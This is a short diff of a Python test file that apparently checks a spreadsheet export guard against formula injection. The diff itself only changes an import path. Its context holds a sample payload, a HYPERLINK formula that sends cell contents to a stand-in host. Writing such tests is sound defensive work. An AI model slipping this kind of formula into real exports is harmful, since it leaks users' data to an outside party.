@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 
 from gems_desktop.commands.campaign_results import _write
-from gems_desktop.requesting.sdk_export import _guard
+from gems_platform.client.requesting.sdk_export import _guard
 
 EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1;"x")'
 ROW: dict[str, Any] = {
